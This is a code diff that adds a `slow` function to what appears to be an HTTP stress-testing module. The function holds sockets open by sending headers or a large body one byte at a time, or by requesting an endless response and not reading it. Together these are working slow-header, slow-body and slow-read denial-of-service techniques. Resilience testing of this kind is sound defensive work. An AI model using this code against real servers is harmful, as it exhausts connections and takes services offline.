@@ -74,6 +74,31 @@ export async function drip(task, flood) {
   resetAll(all);
 }
 
+/**
+ * A third each: heads and bodies that come byte by byte, one each `task.everyMs`, and readers that take nothing of an
+ * endless answer.
+ * @param {Task} task @param {Flood} flood
+ */
+export async function slow(task, flood) {
+  const beginnings = [
+    `GET /small HTTP/1.1\r\nHost: ${task.host}\r\nX: `,
+    uploadHead(task, "Content-Length: 1000000"),
+    `GET /endless HTTP/1.1\r\nHost: ${task.host}\r\n\r\n`,
+  ];
+  /** @type {Set<Socket>} */
+  const dripping = new Set();
+  const timer = setInterval(() => dripping.forEach((socket) => socket.write("x")), task.everyMs);
+  const all = await openSockets(task, flood, (socket, index) => {
+    const part = index % beginnings.length;
+    socket.write(beginnings[part]);
+    if (part === 2) return void socket.once("data", () => socket.pause());
+    dripping.add(socket);
+    socket.on("close", () => dripping.delete(socket));
+  });
+  clearInterval(timer);
+  resetAll(all);
+}
+
 /** Asks for `task.path` on every socket and reads nothing of the answer. @param {Task} task @param {Flood} flood */
 export async function readers(task, flood) {
   resetAll(
